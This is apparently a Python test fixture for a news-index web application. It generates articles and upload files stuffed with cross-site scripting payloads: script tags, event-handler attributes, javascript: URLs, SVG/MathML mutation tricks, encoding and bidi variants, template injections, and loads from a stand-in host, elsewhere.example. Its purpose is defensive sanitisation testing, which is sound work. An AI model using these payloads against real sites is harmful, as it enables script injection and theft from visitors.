"""What an article, a file's name or a question may contain to take over the page: all in vain."""

from __future__ import annotations

from collections.abc import Iterator

from index.types import Article

ELSEWHERE = "https://elsewhere.example"  # no request may ever leave for it
# Whatever runs sets window.pwned, which must stay undefined.
PAYLOADS: tuple[str, ...] = (
    # tags
    "<script>window.pwned=1</script>",
    "</p></section></article><script>window.pwned=1</script>",
    "</textarea></title></style></script><script>window.pwned=1</script>",
    "<ScRiPt src=//elsewhere.example/x.js></sCrIpT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror=window.pwned=1//",  # never closed
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "<video><source onerror=window.pwned=1></video><details open ontoggle=window.pwned=1>",
    "<base href=https://elsewhere.example/><form action=//elsewhere.example><input autofocus>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<template><script>window.pwned=1</script></template><noscript><img src=x></noscript>",
    "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    # attributes
    '"><img src=x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1",
    '" autofocus onfocus="window.pwned=1',
    '" style="background:url(https://elsewhere.example/x)" onclick="window.pwned=1',
    "` onmouseover=`window.pwned=1",
    # other vocabularies
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script><animate onbegin=window.pwned=1 attributeName=x></svg>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=window.pwned=1>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a>'>",
    # addresses
    "<a href=javascript:window.pwned=1>x</a>",
    "javascript:window.pwned=1",
    "JaVaScRiPt:\twindow.pwned=1//https://news.example",
    "java\nscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "[x](javascript:window.pwned=1) ![x](x onerror=window.pwned=1)",
    "![x](https://elsewhere.example/pixel.png) <https://elsewhere.example>",
    # what is written twice
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;script&#62;window.pwned=1",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E \\u003cscript\\u003ewindow.pwned=1",
    "＜script＞window.pwned=1＜/script＞",  # full width: normalised in the wrong form, a tag
    # templates and style sheets
    "${window.pwned=1} `${window.pwned=1}` #{window.pwned=1} <%= window.pwned=1 %>",
    "{{constructor.constructor('window.pwned=1')()}} {{{value}}} @children {% raw %}",
    "<style>@import 'https://elsewhere.example/x.css'; *{x:expression(window.pwned=1)}</style>",
    # characters that end a line, cannot be seen, or turn the text round
    "a\u2028window.pwned=1//\u2029<script>window.pwned=1</script>",
    "<scr\0ipt>window.pwned=1</scr\0ipt> \0<img src=x onerror=window.pwned=1>",
    "\u202e>tpircs/<1=denwp.wodniw>tpircs<\u202c <b>\u2066<script>window.pwned=1</script>",
    "\ud800<img src=x onerror=window.pwned=1>\udfff",  # half characters
)
# Bytes that are no UTF-8, with markup in them.
BROKEN: tuple[bytes, ...] = (
    b"\xff\xfe<\x00i\x00m\x00g\x00 \x00o\x00n\x00e\x00r\x00r\x00o\x00r\x00=\x001\x00>\x00",
    b"Ein Satz. \xc0\xbcscript\xc0\xbewindow.pwned=1 <script>window.pwned=1</script>",
    b"Ein Satz. \xf0\x80\x80\xbcimg src=x onerror=window.pwned=1> \xed\xa0\x80<svg onload=pwned=1>",
    b"+ADw-script+AD4-window.pwned=1+ADw-/script+AD4- Ein Satz.",  # UTF-7
)


def hostile_articles() -> Iterator[Article]:
    """For each payload an article that has it for its id, text and every fact about it."""
    for number, payload in enumerate(PAYLOADS):
        said = f"Der Besen Nummer {number} sagte: {payload} Dann schwieg er."
        yield Article(
            f"hostile-{number}-{payload}".encode("utf-8", "replace").decode(),
            f"{payload}\n\n{said}\n\n{payload}",
            title=payload,
            language=payload,
            source=payload,
            url=payload if number % 2 else f"https://news.example/{payload}",
            published=payload,
        )


def hostile_files() -> Iterator[tuple[str, bytes]]:
    """Names and bytes to upload: each payload as a name, as text, Markdown and a web page."""
    for number, payload in enumerate(PAYLOADS):
        data = f"Der Besen Nummer {number} sagte: {payload} Dann schwieg er.".encode(
            "utf-8", "replace"
        )
        front = "\n".join(
            f"{key}: {payload!r}" for key in ("title", "source", "url", "published", "language")
        ).encode("utf-8", "replace")
        head = f'<html><head><title>{payload}</title><link rel="canonical" href="{payload}"></head>'
        page = head.encode("utf-8", "replace") + b"<body><article><p>" + data + b"</p></article>"
        yield f"{payload}{number}.txt", data
        yield f"{number}.md", b"---\n" + front + b"\n---\n\n# " + data
        yield f"{number}{payload}.html", page
    for number, data in enumerate(BROKEN):
        yield f"broken-{number}.txt", data
